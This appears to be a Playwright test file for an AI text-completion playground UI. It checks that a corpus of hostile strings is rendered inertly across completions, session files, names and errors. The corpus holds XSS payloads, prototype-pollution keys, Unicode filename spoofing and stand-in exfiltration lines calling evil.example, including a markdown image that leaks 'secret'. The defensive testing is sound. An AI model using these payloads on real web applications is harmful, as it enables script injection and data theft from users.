"""Hostile texts in every place are text: no script, no dialog, no request elsewhere."""

from __future__ import annotations

import json

import pytest

from tests.playground.pages import PlaygroundPage

CORPUS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "javascript:alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    "<style>*{background:url(http://evil.example/x)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "![x](http://evil.example/?q=secret)",
    "</textarea><script>alert(1)</script>",
    "</title></pre><math><mi xlink:href=javascript:alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "__proto__",
    "constructor",
    "\u202egnp.exe\u202c \u2066x\u2069",
    "\u200b\u200d\ufeff\u00ad",
    "\x00\x07\x1b[31mred\x1b[0m",
    "data: x\n\nevent: error\ndata: {}",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467 \ud7ff\ue000\uffff",
    "A" * 5000,
    "\u0663 \u0627\u0644\u0639\u0631\u0628\u064a\u0629 \u05e2\u05d1\u05e8\u05d9\u05ea " * 20,
)


def test_hostile_completions_are_text(echo_page: PlaygroundPage) -> None:
    hostile = "\n".join(text for text in CORPUS if text != "\x00\x07\x1b[31mred\x1b[0m")
    echo_page.write(f"{hostile}\n\nHuman: {hostile}\n\nAssistant:")
    echo_page.set("max_tokens_to_sample", 100_000)
    echo_page.page.focus("#area")
    echo_page.complete()
    assert echo_page.text.endswith(hostile.rstrip())
    assert echo_page.drawn == echo_page.text
    assert echo_page.page.locator("#sheet :is(script, img, svg, a, iframe, style)").count() == 0
    marks = echo_page.page.locator("#sheet .invisible").evaluate_all(
        "all => [...new Set(all.map(each => each.dataset.name))]"
    )
    assert {"U+202E", "U+200B", "U+2066"} <= set(marks)


@pytest.mark.parametrize("part", range(3))
def test_hostile_sessions_names_and_errors_are_text(echo_page: PlaygroundPage, part: int) -> None:
    for text in CORPUS[part::3]:
        open_session(echo_page, text)
        echo_page.put_caret(len(echo_page.text) // 2)
        for dialog in ("sessions", "share"):
            echo_page.page.click(f"#open-{dialog}")
            echo_page.page.click(f"#{dialog}-dialog [data-close]")
        echo_page.page.focus("#area")
        echo_page.complete()
        assert echo_page.page.inner_text("#alert") != ""
        elements = "main :is(script, img, svg, a, iframe, form, base)"
        assert echo_page.page.locator(elements).count() == 0


def test_line_breaks_of_every_kind_are_drawn_where_the_text_area_has_them(
    echo_page: PlaygroundPage,
) -> None:
    open_session(echo_page, "one\rtwo\r\nthree\n")
    assert echo_page.text == echo_page.drawn == "one\ntwo\nthree\n" * 2


def open_session(page: PlaygroundPage, text: str) -> None:
    """Import a file that is refused, and one with the text in every place."""
    settings = {"model": text[:256], "stop_sequences": [text[:4000]]}
    outcome = dict.fromkeys(("stop", "message", "requestId", "upstream", "warning"), text)
    token = {"start": 0, "end": 1, "text": text, "logprob": -1, "top": [[text, -1]]}
    branch = {
        "id": "1",
        "parent": None,
        "added": text,
        "completion": text,
        "tokens": [token],
        "settings": settings,
        "model": text,
        "outcome": outcome | {"reason": "stop_sequence"},
    }
    session = {
        "format": "tenuto-playground",
        "version": 1,
        "name": text,
        "text": text + text,
        "current": "1",
        "columns": [settings],
        "branches": [branch],
    }
    name = "".join(char for char in text[:60] if char not in "/\x00") + ".json"
    kind = "application/json"
    other = b'{"format": "other"}'
    own = json.dumps(session).encode()
    page.page.click("#open-sessions")
    for content in (other, own):
        page.page.set_input_files(
            "#session-file", {"name": name, "mimeType": kind, "buffer": content}
        )
        if content is other:
            page.page.wait_for_selector("#sessions-message:not(:empty)")
    page.until("!document.querySelector('dialog[open]')")
